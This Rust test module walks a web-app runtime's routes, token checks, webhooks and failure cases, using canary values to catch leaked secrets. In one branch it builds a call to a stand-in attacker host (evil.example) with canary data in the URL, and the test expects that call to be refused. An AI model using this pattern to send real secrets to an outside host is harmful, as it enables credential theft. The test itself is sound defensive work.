//! Every route and every refusal, walked through.

use axum::response::IntoResponse;
use connect_runtime::{
    ContextRequest, HandlerError, HostRequest, Html, Routes, SessionRequest, Webhook,
    core::{Tenant, qsh::Qsh},
    http::StatusCode,
};
use serde::Deserialize;
use serde_json::json;

use crate::{
    down::Down,
    journal::Journal,
    product::Product,
    refused,
    world::{NOW, Served, claims_token, host_token, install_body, install_token, tenant},
};

pub(crate) const JSON: (&str, &str) = ("content-type", "application/json");
pub(crate) const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");

#[derive(Debug, Deserialize)]
struct Named {
    name: String,
}

#[derive(Debug, Deserialize)]
struct Numbered {
    #[serde(rename = "name")]
    _name: u32,
}

/// Handlers that note what they get, and pass on what goes wrong.
fn routes(journal: &Journal) -> Routes {
    let j = journal.clone();
    let page = async move |request: HostRequest| -> Result<String, HandlerError> {
        j.debug("HostRequest", &request);
        j.debug("HostClient", &request.client());
        let context = request.page_context()?;
        j.plant_token("the token of a PageContext", context.token.clone());
        j.debug("PageContext", &context);
        Ok(request.session_token()?)
    };
    let view = async |request: HostRequest| -> Result<Html<String>, HandlerError> {
        Ok(request.view("page", &json!({}))?)
    };
    let broken = async |request: HostRequest| -> Result<Html<String>, HandlerError> {
        Ok(request.view("broken", &json!({}))?)
    };
    let j = journal.clone();
    let session = async move |request: SessionRequest| {
        j.debug("SessionRequest", &request);
        "session"
    };
    let j = journal.clone();
    let context = async move |request: ContextRequest| {
        j.debug("ContextRequest", &request);
        "context"
    };
    let form = async |_: HostRequest| "form";
    let j = journal.clone();
    let call = async move |request: HostRequest| {
        let error = call_the_product(&j, &request).await;
        j.error("HandlerError", &error);
        error.into_response()
    };
    Routes::new()
        .get("/page", page)
        .get("/view", view)
        .get("/broken", broken)
        .get("/session", session)
        .get("/context", context)
        .post("/form", form)
        .get("/call/{what}", call)
}

/// Calls the product in the way that the last segment of the path names; all fail.
async fn call_the_product(journal: &Journal, request: &HostRequest) -> HandlerError {
    let client = request.client();
    let page = request.claims().sub.as_ref().map_or("", |sub| sub.as_str());
    let query = journal.plant("parameter of a call", "canary-parameter-\"räk\"-of-a-call");
    let body = journal.plant("body of a call", "canary-body-\"räk\"-of-a-call");
    let call = client
        .post(page)
        .query("secret", &query)
        .json(&json!({ "a": body }));
    journal.debug("HostCall", &call);
    let get = |path: &str| client.get(path).query("secret", &query);
    let sent = match page {
        "/ok" => {
            let response = call.send().await.unwrap();
            journal.debug("HostResponse", &response);
            assert!(
                response
                    .json::<Named>()
                    .await
                    .unwrap()
                    .name
                    .starts_with("canary")
            );
            return client
                .get("/x")
                .json(&body)
                .send()
                .await
                .unwrap_err()
                .into();
        }
        "/endless" => match get(page).send().await.unwrap().bytes().await {
            Ok(_) => panic!("10 MiB and more were read"),
            Err(error) => return error.into(),
        },
        "elsewhere" => {
            get(&format!("https://app:{body}@evil.example/{query}"))
                .fetch()
                .await
        }
        "/text" => get(page).fetch::<u32>().await.map(drop),
        "/shape" => get(page).fetch::<Numbered>().await.map(drop),
        _ => get(page).fetch::<Named>().await.map(drop),
    };
    sent.unwrap_err().into()
}

pub(crate) async fn walk(journal: &Journal, product: &Product) {
    let one = tenant(journal, "site-1", &product.url);
    // Nothing listens on port 1 of this machine.
    let dead = tenant(journal, "site-dead", "http://127.0.0.1:1");
    let (tell, seen) = (journal.clone(), journal.clone());
    let app = Served::start(journal, product, "", routes(journal), |builder| {
        builder
            .on_installed(move |tenant| {
                let tell = tell.clone();
                async move {
                    tell.debug("Tenant", &tenant);
                    // What a hook that fails says of its tenant must not say the secret.
                    panic!("a hook of {tenant:?} fails on purpose");
                }
            })
            .on_webhook("jira:issue_created", async |webhook: Webhook| {
                panic!("fails on purpose, with the body {}", webhook.body);
            })
            .on_webhook("jira:issue_deleted", move |webhook: Webhook| {
                seen.debug("Webhook", &webhook);
                async move {
                    let call = webhook.client().get("/text");
                    call.fetch::<u32>().await?;
                    Ok(())
                }
            })
            .on_webhook("jira:issue_updated", async |_: Webhook<Numbered>| Ok(()))
    })
    .await;
    let mut told = app.app.subscribe();
    app.app.store().save_tenant(&one).await.unwrap();
    app.app.store().save_tenant(&dead).await.unwrap();

    pages(journal, &app, &one).await;
    calls(journal, &app, &one, &dead).await;
    refused::refusals(journal, &app, &one).await;
    refused::hooks(journal, &app, &one).await;
    refused::installs(journal, &app, &product.url).await;

    while let Ok(event) = told.try_recv() {
        journal.debug("AppEvent", &event);
    }
    app.stop().await;
}

/// Pages and the calls they make, with tokens in every place in which they may be.
async fn pages(journal: &Journal, app: &Served, one: &Tenant) {
    let bearer = |token: &str| format!("JWT {token}");
    let token = host_token(journal, one, "GET /page?lic=active");
    let header = bearer(&token);
    let session = app
        .send_to_page("GET /page?lic=active", &[("authorization", &header)])
        .await;
    app.send_to_page(&format!("GET /page?lic=active&jwt={token}"), &[])
        .await;
    let header = bearer(&host_token(journal, one, "GET /view"));
    app.send_to_page("GET /view", &[("authorization", &header)])
        .await;
    // A token that is signed with the secret before.
    let mut before = one.clone();
    before.rotate_secret(one.previous_secret().unwrap().secret.clone(), None);
    let header = bearer(&host_token(journal, &before, "GET /view"));
    app.send_to_page("GET /view", &[("authorization", &header)])
        .await;

    let header = bearer(&host_token(journal, one, "GET /broken"));
    let broken = app
        .send("GET /broken", &[("authorization", &header)], "")
        .await;
    assert_eq!(broken.status, StatusCode::INTERNAL_SERVER_ERROR);

    let form = host_token(journal, one, "POST /form");
    let body = format!("a=1&jwt={}", host_token(journal, one, "POST /form?a=1"));
    assert_eq!(
        app.send("POST /form", &[FORM], &body).await.status,
        StatusCode::OK
    );
    let body = format!("a=1&jwt={form}");
    assert_eq!(
        app.send("POST /form", &[FORM], &body).await.status,
        StatusCode::OK
    );

    let header = bearer(&session);
    for (line, headers) in [
        (
            "GET /session".to_owned(),
            vec![("authorization", header.as_str())],
        ),
        (format!("GET /session?jwt={session}"), vec![]),
        (format!("GET /session?acpt={session}"), vec![]),
        (
            "GET /session".to_owned(),
            vec![("x-acpt", session.as_str())],
        ),
    ] {
        assert_eq!(
            app.send(&line, &headers, "").await.status,
            StatusCode::OK,
            "{headers:?}"
        );
    }
    let claims = json!({"iss": "site-1", "sub": "ada", "iat": NOW, "exp": NOW + 900,
        "qsh": "context-qsh"});
    let header = bearer(&claims_token(journal, one, &claims));
    let context = app
        .send("GET /context", &[("authorization", &header)], "")
        .await;
    assert_eq!(
        (context.status, context.body.as_str()),
        (StatusCode::OK, "context")
    );
}

/// Every way in which a call to the product fails.
async fn calls(journal: &Journal, app: &Served, one: &Tenant, dead: &Tenant) {
    for (tenant, what) in [
        (one, "/ok"),
        (one, "/shape"),
        (one, "/text"),
        (one, "/page"),
        (one, "/refused"),
        (one, "/moved"),
        (one, "/missing"),
        (one, "/endless"),
        (one, "elsewhere"),
        (dead, "/any"),
    ] {
        let target = "/call/it";
        let qsh = Qsh::of(&format!("GET&{target}&"));
        // The handler reads from `sub` what it is to do.
        let claims = json!({"iss": tenant.client_key.as_str(), "sub": what, "iat": NOW,
            "exp": NOW + 180, "qsh": qsh.as_str()});
        let header = format!("JWT {}", claims_token(journal, tenant, &claims));
        for accept in ["application/json", "text/html"] {
            let headers = [("authorization", header.as_str()), ("accept", accept)];
            let answer = app.send(&format!("GET {target}"), &headers, "").await;
            assert_eq!(answer.status, StatusCode::BAD_GATEWAY, "{what}");
        }
    }
}

/// The door that turns authentication off makes tokens of its own.
pub(crate) async fn walk_without_tokens(journal: &Journal, product: &Product) {
    let app = Served::start(journal, product, "no-auth", routes(journal), |b| b).await;
    let one = tenant(journal, "site-1", &product.url);
    app.app.store().save_tenant(&one).await.unwrap();
    app.send_to_page("GET /page?lic=active", &[]).await;
    app.stop().await;
}

pub(crate) async fn walk_with_a_failing_store(journal: &Journal, product: &Product) {
    let store = Down(journal.clone());
    let app = Served::start(journal, product, "", routes(journal), |b| b.store(store)).await;
    let one = tenant(journal, "site-1", &product.url);
    let header = format!("JWT {}", host_token(journal, &one, "GET /page"));
    let answer = app
        .send("GET /page", &[("authorization", &header)], "")
        .await;
    assert_eq!(answer.status, StatusCode::SERVICE_UNAVAILABLE);
    let body = install_body(journal, "installed", "site-2", &product.url).to_string();
    let header = format!(
        "JWT {}",
        install_token(journal, "/installed", "site-2", "good/1")
    );
    let answer = app
        .send(
            "POST /installed",
            &[JSON, ("authorization", &header)],
            &body,
        )
        .await;
    assert_eq!(answer.status, StatusCode::SERVICE_UNAVAILABLE);
    app.stop().await;
}
